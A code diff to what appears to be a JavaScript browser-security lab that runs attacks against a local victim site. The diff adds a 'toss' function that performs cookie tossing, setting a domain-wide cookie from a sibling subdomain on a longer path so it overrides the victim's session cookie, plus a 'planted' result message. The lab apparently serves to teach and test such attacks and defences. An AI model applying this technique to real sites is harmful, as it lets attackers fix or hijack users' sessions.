@@ -23,6 +23,7 @@ const lab = {
     failed: ['blocked', 'Blocked: the browser did not hand the answer to the attacker\'s code.'],
     public: ['neutral', 'Public data only: nothing private came back.'],
     sent: ['neutral', 'The request went out: whether it changed anything, the victim\'s journal says.'],
+    planted: ['neutral', 'The page has done its part: whose account the visitor\'s next post lands in, the victim\'s journal says.'],
     nothing: ['blocked', 'Blocked: the attempt brought nothing back.']
   },
 
@@ -89,6 +90,23 @@ const lab = {
     lab.show('Got it! ' + JSON.stringify(answer.body, null, 2));
     await lab.exfiltrate(scenario, answer.body);
     return answer.body;
+  },
+
+  /**
+   * Cookie tossing, from a sibling subdomain of the victim: sets name=value for the victim's whole domain
+   * (Domain=social.localhost) on `path`, and returns whether the browser kept it (it refuses a __Host- name
+   * with a Domain). The cookie is first set on Path=/, where this page can see whether it was kept, then moved
+   * to `path`: a longer path than the victim's own cookie's, so the browser sends the tossed one first there.
+   */
+  toss(name, value, path) {
+    const scope = '; Domain=' + new URL(lab.victim).hostname + '; Secure; Path=';
+    document.cookie = name + '=' + value + scope + '/';
+    const kept = document.cookie.split('; ').includes(name + '=' + value);
+    if (kept) {
+      document.cookie = name + '=' + scope + '/; Max-Age=0';
+      document.cookie = name + '=' + value + scope + path;
+    }
+    return kept;
   },
 
   /**
